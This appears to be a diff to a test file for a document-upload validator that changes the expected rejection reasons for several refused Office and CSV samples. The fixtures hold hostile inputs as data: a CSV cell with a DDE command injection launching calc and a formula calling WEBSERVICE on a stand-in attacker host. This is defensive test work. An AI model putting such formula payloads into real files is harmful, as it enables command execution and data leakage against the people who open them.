@@ -300,7 +300,7 @@ def refused_files() -> dict[str, tuple[str, bytes, FileRejectionReason]]:
         "split command in a field": (
             "brief.docx",
             office_file(WORDS, {"word/document.xml": FIELD}),
-            FileRejectionReason.SCRIPTS,
+            FileRejectionReason.FIELDS,
         ),
         "command in a workbook, somewhere else": (
             "liste.xlsx",
@@ -312,12 +312,12 @@ def refused_files() -> dict[str, tuple[str, bytes, FileRejectionReason]]:
         "split command in a field, somewhere else": (
             "brief.docx",
             office_file(WORDS, {"b/text.xml": FIELD}),
-            FileRejectionReason.SCRIPTS,
+            FileRejectionReason.FIELDS,
         ),
         "split command in a field under another ending": (
             "brief.docx",
             office_file(WORDS, {"b/text.png": FIELD}, types=_typed("b/text.png", WORDS)),
-            FileRejectionReason.SCRIPTS,
+            FileRejectionReason.FIELDS,
         ),
         "program in a document, somewhere else": (
             "a.docx",
@@ -327,12 +327,12 @@ def refused_files() -> dict[str, tuple[str, bytes, FileRejectionReason]]:
         "command in a cell of csv": (
             "zahlen.csv",
             b"Name;Wert\nA;=cmd|' /C calc'!A0\n",
-            FileRejectionReason.SCRIPTS,
+            FileRejectionReason.FORMULAS,
         ),
         "address asked by csv": (
             "zahlen.csv",
             b'Name,Wert\n"A","=1+WEBSERVICE(""https://evil.example/"")"\n',
-            FileRejectionReason.SCRIPTS,
+            FileRejectionReason.FORMULAS,
         ),
         "entities": (
             "liste.xlsx",
